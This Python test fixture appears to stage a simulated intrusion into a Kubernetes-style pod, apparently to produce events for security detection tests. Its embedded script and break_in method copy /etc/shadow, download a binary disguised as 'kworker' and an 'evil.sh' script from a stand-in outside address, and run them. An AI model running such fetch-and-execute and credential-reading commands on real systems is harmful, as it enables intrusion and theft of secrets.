"""An intrusion into a pod, step by step: somebody with the right to exec gets a shell, fetches a script and runs it."""

from __future__ import annotations

import time
from dataclasses import dataclass, field, replace

from tests.containerd.host import Container, Containerd
from tests.containerd.image import WEB

ELSEWHERE = "203.0.113.2"
"""The address of the first pod of a host: the server the script comes from."""

_SCRIPT = f"""#!/bin/sh
cat /etc/shadow >/tmp/.loot
curl -s http://{ELSEWHERE}/kworker -o /tmp/.kworker
chmod 755 /tmp/.kworker
/tmp/.kworker -c 'sleep 1'
"""

SHOP = replace(
    WEB,
    name="registry.test/store/shop:1.4",
    files={**WEB.files, "/etc/shadow": "root:$y$j9T$F5Jx5f:19700:0:99999:7:::\n"},
)
_ELSEWHERE = replace(WEB, name="registry.test/elsewhere:1", files={**WEB.files, "/srv/evil.sh": _SCRIPT})


@dataclass
class Story:
    """The pods of the story; times are ns since the epoch. Each step is a method."""

    host: Containerd
    shop: Container = field(init=False)
    visitor: Container = field(init=False)
    visited: int = 0
    began: int = 0
    ended: int = 0

    def __post_init__(self) -> None:
        elsewhere = self.host.pod("elsewhere", "outside")
        assert elsewhere.address == ELSEWHERE
        serve = f"cp /bin/dash /srv/kworker; exec {' '.join(WEB.entrypoint)}"
        elsewhere.run("web", _ELSEWHERE, ["sh", "-c", serve]).listening()
        self.visitor = self.host.pod("visitor", "store").run("curl", WEB, ["sleep", "3600"])

    def open_shop(self) -> None:
        """Start the pod that will be broken into: it serves HTTP."""
        self.shop = self.host.pod("shop-7d9f", "store", labels={"app": "shop"}).run("web", SHOP).listening()

    def visit(self) -> None:
        """Be a customer."""
        self.visited = time.time_ns()
        done = self.visitor.exec("curl", "-s", f"http://{self.shop.pod.address}/")
        assert done.text == "<h1>shop</h1>\n"

    def break_in(self) -> None:
        """Get a shell in the pod; fetch a script, make it executable and run it."""
        self.began = time.time_ns()
        with self.shop.terminal("bash") as shell:
            shell.ask(f"curl -s http://{ELSEWHERE}/evil.sh -o /tmp/evil.sh")
            shell.ask("chmod +x /tmp/evil.sh")
            shell.ask("/tmp/evil.sh")
            shell.type("exit\n")
            shell.wait()
        self.ended = time.time_ns()
